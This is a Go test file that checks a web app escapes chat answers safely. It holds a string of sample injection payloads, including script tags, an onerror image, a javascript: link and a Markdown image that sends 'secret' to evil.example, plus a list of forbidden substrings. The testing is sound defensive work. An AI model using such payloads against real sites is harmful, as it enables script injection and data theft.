package web

import (
	"encoding/json"
	"fmt"
	"net/url"
	"strings"
	"testing"

	"dreamlab/store"
	"dreamlab/store/plainjson"
)

// hostile is an answer that would run, load, lead away or break out where it is not rendered safely.
const hostile = "**bold** <script>hit()</script>\n<img src=x onerror=hit()>\n![](https://evil.example/?q=secret)\n" +
	"[x](javascript:hit()) [y](/app/signout) [ok](https://a.example/\"onclick=hit())\n\n</div></main>{{.Key}}\n" +
	"```\n</code><script>hit()</script>\n"

// An answer is shown as Markdown, without its HTML and without images of elsewhere, wherever a page
// shows one. What a person wrote is text.
func TestAnswersAreSafe(t *testing.T) {
	t.Parallel()
	s := newSite(t, "")
	_, secret := s.key(store.ScopeAdmin)
	s.send("/app/signin", url.Values{"key": {secret}})
	said := string(plainjson.Of(hostile))
	chat := fmt.Sprintf(`{"id":"job_1","kind":"chat","status":"succeeded","finished_at":1,
		"input":{"model":"m","messages":[{"role":"user","content":%s},{"role":"assistant","content":%[1]s}]},
		"result":{"model":"m","choices":[{"message":{"role":"assistant","content":%[1]s}}]}}`, said)
	s.says = map[string]string{
		"/v1/jobs/job_1": chat, "/v1/jobs": `{"data":[` + chat + `]}`,
		"/v1/experiences": fmt.Sprintf(`{"data":[{"id":"exp_1","conversation":"conv_1","messages":[{"role":"user","content":%s},
			{"role":"assistant","content":%[1]s}]}]}`, said),
		"/v1/lineage/conv_1": `{}`,
	}
	for path, answers := range map[string]int{
		"/app/requests/job_1": 2, "/app/requests?peek=job_1": 2, "/app/chat?conversation=conv_1": 1, "/app/conversations/conv_1": 1,
	} {
		got, body := s.send(path, nil)
		if got.StatusCode != 200 || strings.Count(body, "<strong>bold</strong> &lt;script&gt;hit()") != answers ||
			!strings.Contains(body, "**bold** &lt;script&gt;hit()") {
			t.Errorf("%s shows other answers: %d\n%s", path, got.StatusCode, body)
		}
		for _, wrong := range []string{"<script>hit", "<img src=x", `src="https`, `href="javascript`, `"onclick`, "</div></main>{{", `<a href="/app/signout`} {
			if strings.Contains(body, wrong) {
				t.Errorf("%s holds %s", path, wrong)
			}
		}
	}
}

func TestText(t *testing.T) {
	t.Parallel()
	for content, want := range map[string]string{
		`"a"`: "a", `[{"type":"text","text":"a"},{"type":"image_url"}]`: "a\n[image_url]", `{"b":1}`: `{"b":1}`,
	} {
		if got := (message{Content: []byte(content)}).Text(); got != want {
			t.Errorf("%s is %q", content, got)
		}
	}
	calls := message{Content: []byte("null"), ToolCalls: []json.RawMessage{[]byte(`{"a_b":"**c**"}`)}}
	if got, want := calls.Text(), "[tool calls]\n```\n{\n  \"a_b\": \"**c**\"\n}\n```"; got != want {
		t.Errorf("calls are %q", got)
	}
}
